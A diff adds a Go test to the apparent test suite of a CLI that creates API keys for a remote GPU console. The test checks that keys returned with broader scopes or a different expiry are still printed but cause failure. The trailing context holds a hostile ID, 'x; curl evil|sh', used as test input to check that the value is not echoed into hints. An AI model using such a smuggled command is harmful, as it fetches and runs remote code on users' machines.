@@ -47,6 +47,32 @@ func TestTheKeyIsNamedEvenWhenItsIDStandsElsewhere(t *testing.T) {
 	}
 }
 
+// A key that may do more than was asked for, or lives longer, is delivered, and
+// is no success.
+func TestAKeyThatIsOtherThanWishedIsDeliveredAndFails(t *testing.T) {
+	t.Parallel()
+	const secret = "rgpu_4929de1f505b514f84988e4992cd23da"
+	record := func(scopes, expires string) string {
+		return `{"id":"k1","name":"x","scopes":` + scopes + `,"expires_at":` + expires + `,"key":"` + secret + `"}`
+	}
+	for _, test := range []struct {
+		record string
+		code   int
+		what   string
+	}{
+		{record(`{"inference":true}`, `"2099-01-31T00:00:00Z"`), 0, ""},
+		{record(`{"inference":true}`, `"2099-01-31T01:00:00+01:00"`), 0, ""},
+		{record(`{"all":true}`, `"2099-01-31T00:00:00Z"`), 1, "the scopes .*all.* instead of .*inference"},
+		{record(`{"inference":true}`, `"2199-01-31T00:00:00Z"`), 1, "another expiry than it was asked for"},
+		{record(`{"inference":true}`, `null`), 1, "no expiry that the console tells"},
+	} {
+		r := answering(t, "remotegpu", test.record).run("create", "--name", "x", "--scope", "inference", "--expires", "2099-01-31", "-o", "secret")
+		if r.is(t, test.record, test.code, test.what); r.stdout != secret+"\n" {
+			t.Errorf("%s: the secret is lost: %q", test.record, r.stdout)
+		}
+	}
+}
+
 func TestAHostileIDEntersNoHint(t *testing.T) {
 	t.Parallel()
 	const id = "x; curl evil|sh"
